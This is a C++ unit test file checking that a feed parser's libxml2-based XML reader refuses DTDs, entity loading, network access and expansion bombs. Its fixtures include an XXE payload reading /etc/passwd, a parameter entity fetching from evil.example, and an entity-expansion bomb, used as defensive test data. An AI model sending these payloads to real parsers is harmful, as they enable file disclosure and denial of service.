// SPDX-License-Identifier: MIT
// Each guard of C-03 alone: where the others would hide its absence they are taken away first.
#include "parse/xml_reader.hpp"

#include <stdexcept>
#include <string>

#include <gtest/gtest.h>
#include <libxml/catalog.h>
#include <libxml/parser.h>
#include <libxml/parserInternals.h>

namespace feedherald::parse {
namespace {

class Recorder final : public XmlHandler {
  public:
    void start(XmlName const& name, XmlAttributes const& attributes) override {
        events += "<" + std::string{name.local()};
        for (std::size_t at = 0; at < attributes.size(); ++at)
            events += " " + std::string{attributes.name(at).local()} + "=[" + std::string{attributes.value(at)} + "]";
        events += ">";
    }
    void end(XmlName const& /*name*/) override { events += "</>"; }
    void text(std::string_view piece) override {
        events += piece;
        characters += piece.size();
    }
    std::string events;
    std::size_t characters = 0;
};

struct Parse {
    explicit Parse(std::string document, XmlMode mode = XmlMode::tolerant)
        : text(std::move(document)), reader(text, mode, handler, limits, deadline) {}
    std::string text;
    Limits limits;
    Deadline deadline{std::chrono::seconds{30}};
    Recorder handler;
    XmlReader reader;
};

xmlChar const* name_of(char const* name) {
    return reinterpret_cast<xmlChar const*>(name);
}

int loads = 0;
xmlParserInputPtr counting_loader(char const* /*url*/, char const* /*id*/, xmlParserCtxtPtr /*context*/) {
    ++loads;
    return nullptr;
}

std::string const external_entity = R"(<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;<b/></a>)";
std::string const parameter_entity = R"(<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><a>&q;<b/></a>)";

std::string bomb() {
    std::string references;
    for (int n = 0; n < 20'000; ++n) references += "&a;";
    return "<!DOCTYPE a [<!ENTITY a \"" + std::string(100'000, 'x') + "\">]><a>" + references + "</a>";
}

TEST(XmlGuards, hand_attributes_over_decoded_because_of_noent) {  // C-03 NOENT
    Parse parse{"<a h=\"?x=1&amp;y=2&#38;z&lt;&quot;&#x20AC;\">t&amp;u</a>", XmlMode::strict};

    EXPECT_EQ(parse.reader.run().kind, XmlOutcome::Kind::complete);
    EXPECT_EQ(parse.handler.events, "<a h=[?x=1&y=2&z<\"\u20AC]>t&u</>");
}

TEST(XmlGuards, never_ask_for_a_dtd_huge_or_the_old_sax) {  // C-03
    for (auto const mode : {XmlMode::strict, XmlMode::tolerant}) {
        Parse parse{"<a/>", mode};
        auto const options = parse.reader.context()->options;

        constexpr int forbidden = XML_PARSE_DTDLOAD | XML_PARSE_DTDATTR | XML_PARSE_DTDVALID | XML_PARSE_XINCLUDE |
                                  XML_PARSE_HUGE | XML_PARSE_OLDSAX | XML_PARSE_SAX1;
        constexpr int required = XML_PARSE_NONET | XML_PARSE_NOENT | XML_PARSE_IGNORE_ENC;
        EXPECT_EQ(options & forbidden, 0);
        EXPECT_EQ(options & required, required);
        EXPECT_EQ((options & XML_PARSE_RECOVER) != 0, mode == XmlMode::tolerant);
    }
}

TEST(XmlGuards, stop_at_a_document_type) {  // C-03 internalSubset, C-05
    Parse parse{"<!DOCTYPE a [<!ATTLIST a h CDATA 'defaulted'>]><a>text</a>"};

    EXPECT_EQ(parse.reader.run().kind, XmlOutcome::Kind::malformed);
    EXPECT_EQ(parse.handler.events, "");
}

TEST(XmlGuards, know_five_entities_and_no_other) {  // C-03 getEntity
    Parse parse{external_entity};
    auto* context = parse.reader.context();
    context->sax->internalSubset = nullptr;
    loads = 0;
    auto const usual = xmlGetExternalEntityLoader();
    xmlSetExternalEntityLoader(counting_loader);
    parse.reader.run();
    xmlSetExternalEntityLoader(usual);

    EXPECT_EQ(loads, 0);
    EXPECT_EQ(parse.handler.characters, 0U);
    ASSERT_NE(context->sax->getEntity, nullptr);
    EXPECT_NE(context->sax->getEntity(context->userData, name_of("amp")), nullptr);
    EXPECT_EQ(context->sax->getEntity(context->userData, name_of("x")), nullptr);
    EXPECT_EQ(context->sax->getEntity(context->userData, name_of("nbsp")), nullptr);
}

TEST(XmlGuards, keep_their_own_user_data_so_that_no_hidden_document_expands_a_bomb) {  // C-03 userData
    Parse parse{bomb()};
    auto* context = parse.reader.context();
    EXPECT_NE(context->userData, nullptr);
    EXPECT_NE(context->userData, static_cast<void*>(context));
    context->sax->internalSubset = nullptr;
    context->sax->getEntity = nullptr;
    parse.reader.run();

    EXPECT_EQ(parse.handler.characters, 0U);
}

TEST(XmlGuards, refuse_to_load_anything) {  // C-03, C-04
    Parse parse{"<a/>"};

    auto* input = xmlLoadExternalEntity("file:///etc/hostname", nullptr, parse.reader.context());
    EXPECT_EQ(input, nullptr);
    EXPECT_EQ(xmlCatalogGetDefaults(), XML_CATA_ALLOW_NONE);
    if (input != nullptr) xmlFreeInputStream(input);
}

TEST(XmlGuards, load_nothing_for_external_and_parameter_entities) {  // C-04
    for (auto const& document : {external_entity, parameter_entity}) {
        Parse parse{document};
        loads = 0;
        auto const usual = xmlGetExternalEntityLoader();
        xmlSetExternalEntityLoader(counting_loader);
        parse.reader.run();
        xmlSetExternalEntityLoader(usual);

        EXPECT_EQ(loads, 0) << document;
        EXPECT_EQ(parse.handler.events, "") << document;
    }
}

TEST(XmlGuards, ignore_what_the_declaration_says_of_the_encoding) {  // B-06, C-03 IGNORE_ENC
    for (std::string const label : {"iso-8859-1", "foo-9", "utf-16", "ucs-4"}) {
        Parse parse{"<?xml version=\"1.0\" encoding=\"" + label + "\"?><a>\u20AC</a>", XmlMode::strict};

        EXPECT_EQ(parse.reader.run().kind, XmlOutcome::Kind::complete) << label;
        EXPECT_EQ(parse.handler.events, "<a>\u20AC</>") << label;
    }
}

TEST(XmlGuards, print_nothing) {  // C-03 serror
    testing::internal::CaptureStderr();
    Parse parse{"<a><b></a>&undefined;<c"};
    auto const outcome = parse.reader.run();

    EXPECT_GT(outcome.errors, 0);
    EXPECT_EQ(testing::internal::GetCapturedStderr(), "");
}

TEST(XmlGuards, take_an_undeclared_prefix_for_no_error) {  // C-11, C-13
    Parse parse{"<a><dc:date>x</dc:date></a>", XmlMode::strict};
    auto const outcome = parse.reader.run();

    EXPECT_EQ(outcome.kind, XmlOutcome::Kind::complete);
    EXPECT_EQ(outcome.errors, 0);
}

TEST(XmlReader, stops_soon_after_the_first_error_when_strict) {
    std::string document = "<a>&undefined;";
    for (int n = 0; n < 200'000; ++n) document += "<e" + std::to_string(n) + "/>";
    Parse parse{document + "</a>", XmlMode::strict};
    auto const outcome = parse.reader.run();

    EXPECT_EQ(outcome.kind, XmlOutcome::Kind::malformed);
    EXPECT_LT(parse.handler.events.size(), 100U);
}

TEST(XmlReader, carries_an_exception_of_its_handler_over_libxml2) {
    class Thrower final : public XmlHandler {
        void start(XmlName const&, XmlAttributes const&) override { throw std::runtime_error{"mine"}; }
        void end(XmlName const&) override {}
        void text(std::string_view) override {}
    } thrower;
    Limits const limits;
    Deadline const deadline{std::chrono::seconds{30}};
    XmlReader reader{"<a><b/></a>", XmlMode::strict, thrower, limits, deadline};

    EXPECT_THROW(reader.run(), std::runtime_error);
}

TEST(XmlReader, joins_with_its_caller_what_libxml2_splits) {  // C-10
    std::string const text(20'000, 'x');
    Parse parse{"<a>" + text + "&amp;<![CDATA[" + text + "]]>\u20AC</a>", XmlMode::strict};
    parse.reader.run();

    EXPECT_EQ(parse.handler.events, "<a>" + text + "&" + text + "\u20AC</>");
}

}  // namespace
}  // namespace feedherald::parse
